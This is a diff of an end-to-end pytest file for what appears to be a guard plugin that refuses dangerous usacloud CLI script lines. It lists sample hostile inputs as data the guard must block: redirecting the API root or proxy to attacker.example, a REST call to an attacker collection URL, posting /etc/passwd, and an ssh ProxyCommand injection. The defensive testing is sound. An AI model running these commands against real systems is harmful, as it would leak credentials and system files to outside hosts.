@@ -26,22 +26,23 @@ def test_allowed_prefix_is_applied(e2e):
     assert [c["exit"] for c in e2e.calls()] == [0, 0, 0, 0]
 
 
-@pytest.mark.parametrize(
-    "prefix",
-    [
-        "SAKURACLOUD_API_ROOT_URL=https://attacker.example",
-        "HTTPS_PROXY=http://attacker.example:8080",
-        "SAKURACLOUD_ZONE=is1a",
-        "env SAKURACLOUD_PROFILE=prod",
-        "FOO=1",
-    ],
-)
-def test_other_prefixes_refuse_the_command(e2e, prefix):
-    e2e.script("route.usacloud", f"{prefix} usacloud zone list\n")
-    result = e2e.run()
-    result.assert_outcomes(failed=1)
-    name = prefix.removeprefix("env ").split("=")[0]
-    result.stdout.fnmatch_lines([f"refused: *(environment)*{name}*", "  at scripts/route.usacloud:1"])
+REFUSED_PREFIXES = [
+    "SAKURACLOUD_API_ROOT_URL=https://attacker.example",
+    "HTTPS_PROXY=http://attacker.example:8080",
+    "SAKURACLOUD_ZONE=is1a",
+    "env SAKURACLOUD_PROFILE=prod",
+    "FOO=1",
+]
+
+
+def test_other_prefixes_refuse_the_command(e2e):
+    for n, prefix in enumerate(REFUSED_PREFIXES):  # one script each, in one run
+        e2e.script(f"route{n}.usacloud", f"{prefix} usacloud zone list\n")
+    result = e2e.run("--usacloud-error-policy=continue")
+    result.assert_outcomes(failed=len(REFUSED_PREFIXES))
+    for n, prefix in enumerate(REFUSED_PREFIXES):
+        name = prefix.removeprefix("env ").split("=")[0]
+        result.stdout.fnmatch_lines([f"refused: *(environment)*{name}*", f"  at scripts/route{n}.usacloud:1"])
     assert e2e.calls() == []
 
 
@@ -127,22 +128,23 @@ def test_boolean_secret_looking_flag_masks_nothing(e2e):
 
 
 # -- 11.3 / 11.4 / 11.5 through the whole run ----------------------------------------------------------
-@pytest.mark.parametrize(
-    ("line", "rule"),
-    [
-        ("usacloud rest https://attacker.example/collect", "rest-url"),
-        ("usacloud rest https://secure.sakura.ad.jp/cloud/zone/%69s1a/api/cloud/1.1/server", "zone-escape"),
-        ("usacloud rest -X post -d /etc/passwd /note", "rest-data"),
-        ("usacloud server ssh web -- -oProxyCommand=touch/tmp/x", "dangerous"),
-        ("usacloud server update -y web --force-shutdown --cpu 2", "dangerous"),
-        ("usacloud --profile prod zone list", "route"),
-    ],
-)
-def test_refused_before_anything_runs(e2e, line, rule):
-    e2e.script("refused.usacloud", line + "\n")
-    result = e2e.run("--usacloud-allow-global-writes")
-    result.assert_outcomes(failed=1)
-    result.stdout.fnmatch_lines([f"refused: *({rule})*", "  at scripts/refused.usacloud:1"])
+REFUSED_LINES = [
+    ("usacloud rest https://attacker.example/collect", "rest-url"),
+    ("usacloud rest https://secure.sakura.ad.jp/cloud/zone/%69s1a/api/cloud/1.1/server", "zone-escape"),
+    ("usacloud rest -X post -d /etc/passwd /note", "rest-data"),
+    ("usacloud server ssh web -- -oProxyCommand=touch/tmp/x", "dangerous"),
+    ("usacloud server update -y web --force-shutdown --cpu 2", "dangerous"),
+    ("usacloud --profile prod zone list", "route"),
+]
+
+
+def test_refused_before_anything_runs(e2e):
+    for n, (line, _) in enumerate(REFUSED_LINES):  # one script each, in one run
+        e2e.script(f"refused{n}.usacloud", line + "\n")
+    result = e2e.run("--usacloud-allow-global-writes", "--usacloud-error-policy=continue")
+    result.assert_outcomes(failed=len(REFUSED_LINES))
+    for n, (_, rule) in enumerate(REFUSED_LINES):
+        result.stdout.fnmatch_lines([f"refused: *({rule})*", f"  at scripts/refused{n}.usacloud:1"])
     assert e2e.calls() == []
 
 
@@ -169,8 +171,7 @@ def test_fake_mode_refuses_rest(e2e):
 )
 def test_worker_cap_holds_for_every_way_of_asking(e2e, args):
     e2e.script("a.usacloud", "usacloud zone list\n")
-    result = e2e.run(*args)
-    assert result.ret == pytest.ExitCode.USAGE_ERROR
+    result = e2e.usage_error(*args)
     stderr = result.stderr.str()
     assert "usacloud_max_workers" in stderr and "at most 10 workers" in stderr, stderr
     assert e2e.calls() == []
@@ -193,11 +194,11 @@ def test_refusal_messages_are_masked(e2e):
 
 
 # -- the machine's usacloud profiles are not read unless --usacloud-allow-profiles -----------------
-@pytest.mark.parametrize("mode", ["commands", "shell"])
 @pytest.mark.parametrize("allowed", [False, True])
-def test_machine_profiles_are_not_read_by_default(e2e, tmp_path, allowed, mode):
+def test_machine_profiles_are_not_read_by_default(e2e, tmp_path, allowed):
     """A developer's `usacloud config` leaves ~/.usacloud/default/config.json with a production key,
-    zone and API root; by default usacloud is pointed at an empty profile directory instead."""
+    zone and API root; by default usacloud is pointed at an empty profile directory instead.
+    One script in each mode, in one run."""
     home = tmp_path / "home"
     profile = home / ".usacloud" / "default" / "config.json"
     profile.parent.mkdir(parents=True)
@@ -212,16 +213,19 @@ def test_machine_profiles_are_not_read_by_default(e2e, tmp_path, allowed, mode):
         )
     )
     e2e.env(HOME=home)
-    e2e.script("list.usacloud", "usacloud server list\n")
-    result = e2e.run(f"--usacloud-mode={mode}", *(["--usacloud-allow-profiles"] if allowed else []))
-    result.assert_outcomes(passed=1)
-    [call] = e2e.calls()
-    assert call["zone_env"] == "tk1v"
-    if allowed:
-        assert call["auth"]["profile_file"] == str(profile)
-    else:
-        assert call["auth"]["profile_file"] is None
-        assert call["auth"]["profile"] == "default"
+    e2e.script("commands.usacloud", "usacloud server list\n")
+    e2e.script("shell.usacloud", "# pytest.mark.usacloud_shell\nusacloud server list\n")
+    result = e2e.run(*(["--usacloud-allow-profiles"] if allowed else []))
+    result.assert_outcomes(passed=2)
+    calls = e2e.calls()
+    assert len(calls) == 2
+    for call in calls:
+        assert call["zone_env"] == "tk1v"
+        if allowed:
+            assert call["auth"]["profile_file"] == str(profile)
+        else:
+            assert call["auth"]["profile_file"] is None
+            assert call["auth"]["profile"] == "default"
     assert "PRODTOKEN99" not in result.stdout.str()
 
 
